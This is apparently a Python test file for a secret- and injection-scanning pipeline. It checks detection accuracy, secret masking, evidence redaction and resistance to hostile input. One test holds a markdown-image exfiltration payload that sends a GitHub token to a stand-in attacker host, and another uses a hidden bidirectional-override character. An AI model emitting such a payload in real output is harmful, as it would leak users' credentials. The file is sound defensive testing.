"""The scanners together: what they find in the corpus, in how much time, and that no secret shows."""

import asyncio
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.orchestrator.pipeline.scanning.masking import mask, masked
from services.orchestrator.pipeline.scanning.plain_letters import plain
from services.orchestrator.pipeline.scanning.scan import Material, scan
from services.orchestrator.pipeline.scanning.scanner import Source, load_scanners
from tests.bench.bench_scanners import hostile_texts, score
from tests.fixtures.scanner_corpus import corpus, provider_keys

import random  # isort: skip

KEYS = provider_keys(random.Random(2))
HOSTILE = hostile_texts()


def material(text: str, source: Source = Source.RESULT) -> Material:
    return Material(source, "text", text)


class TestCorpus:
    @pytest.mark.parametrize("seed", [7, 8, 9])
    def test_precision_and_recall_do_not_fall(self, seed: int) -> None:
        scores, mistakes = score(corpus(seed))
        for category, one in scores.items():
            assert one.precision >= 0.97, (category, mistakes)
            assert one.recall >= 0.97, (category, mistakes)

    def test_no_secret_stands_in_the_evidence(self) -> None:
        for sample in corpus():
            for finding in scan([material(sample.text, sample.source)]):
                if sample.secret:
                    assert sample.secret not in finding.evidence
                    assert sample.secret[:8] not in finding.evidence

    def test_every_scanner_has_a_name_of_its_own(self) -> None:
        names = [scanner.name for scanner in load_scanners()]
        assert len(set(names)) == len(names) == 11


class TestScan:
    def test_worst_first_and_equal_ones_once(self) -> None:
        text = f"a@b.de\n{KEYS['aws']}\n\n{KEYS['aws']} a@b.de"
        first, second = scan([material(text)])
        assert (first.severity, first.category, first.blocks) == ("critical", "credential", True)
        assert first.evidence == "text, line 2 and 1 more places: AKIA… (20 characters)"
        assert second.title == "E-mail address"

    def test_what_was_left_out_is_a_finding(self) -> None:
        (finding,) = scan([material("nothing")], left_out=["file big: all after 7"])
        assert (finding.category, finding.severity) == ("scan", "medium")
        assert "file big" in finding.evidence

    @pytest.mark.parametrize("offset", [0, 256 * 1024 - 10, 240 * 1024 - 3, 1_000_000])
    def test_a_key_is_found_at_any_seam_and_once(self, offset: int) -> None:
        text = " " * offset + KEYS["github"] + " " * 70_000
        (finding,) = scan([material(text)])
        assert finding.evidence == "text, line 1: ghp_… (40 characters)"

    def test_what_was_told_is_not_searched_for_personal_data(self) -> None:
        text = f"{KEYS['aws']} a@b.de"
        assert scan([material(text, Source.TOOL), material(text, Source.MEMORY)]) == []

    def test_the_same_each_time(self) -> None:
        text = "\n".join(sample.text for sample in corpus())
        assert scan([material(text)]) == scan([material(text)])

    def test_no_end_of_findings_is_cut(self) -> None:
        text = "\n".join(f"person{number}@company{number}.de" for number in range(1000))
        assert len(scan([material(text)])) <= 201

    def test_evidence_of_an_injection_holds_no_key_and_nothing_unseen(self) -> None:
        text = f"![x](https://evil.example/?q={KEYS['github']})"
        (finding,) = [one for one in scan([material(text)]) if one.category == "injection"]
        assert KEYS["github"] not in finding.evidence
        (hidden,) = scan([material("x\u202ey")])
        assert hidden.evidence.isprintable()
        assert "\\u202e" in hidden.evidence

    @settings(deadline=None, max_examples=60)
    @given(st.text(max_size=400), st.sampled_from(Source))
    def test_any_text_can_be_scanned(self, text: str, source: Source) -> None:
        for finding in scan([material(text, source)]):
            assert finding.category != "scan"


class TestTime:
    @pytest.mark.parametrize("name", ["images", "noise"])
    async def test_a_hostile_mebibyte_does_not_stall_the_loop(self, name: str) -> None:
        """Another task on the loop never waits for long, while the scan runs beside it."""
        work = asyncio.create_task(asyncio.to_thread(scan, [material(HOSTILE[name])]))
        begun = time.monotonic()
        longest, last = 0.0, begun
        while not work.done():
            await asyncio.sleep(0.01)
            now = time.monotonic()
            longest, last = max(longest, now - last), now
        await work
        assert longest < (time.monotonic() - begun) / 2

    def test_all_of_it_is_scanned(self) -> None:
        found = scan([material(HOSTILE["digits"])])
        assert [one for one in found if one.category == "scan"] == []


class TestMask:
    @pytest.mark.parametrize(
        ("secret", "shown"),
        [
            ("abc", "… (3 characters)"),
            ("abcdefgh", "ab… (8 characters)"),
            ("abcdefghijklmnop", "abcd… (16 characters)"),
            ("ab\ncdefghijklmnop", "ab c… (17 characters)"),
        ],
    )
    def test_shows_little(self, secret: str, shown: str) -> None:
        assert mask(secret) == shown

    @pytest.mark.parametrize("issuer", KEYS)
    def test_a_masked_text_has_no_key_and_stays_so(self, issuer: str) -> None:
        text = f'{{"output": "a {KEYS[issuer]} b", "password": "tr0ub4dor&3x"}}'
        once = masked(text)
        assert KEYS[issuer] not in once
        assert "tr0ub4dor" not in once
        assert once.startswith('{"output": "a ')
        assert masked(once) == once

    @given(st.text(max_size=300))
    def test_other_text_stays_as_it_is(self, text: str) -> None:
        assert masked(text) == text


class TestPlainLetters:
    @given(st.text(st.characters(codec="utf-8"), max_size=60))
    def test_each_letter_leads_back_to_where_it_came_from(self, text: str) -> None:
        read = plain(text)
        for offset, letter in enumerate(read.text):
            origin = read.origin(offset)
            assert 0 <= origin < len(text)
            if text[origin].isascii():
                assert letter == text[origin]
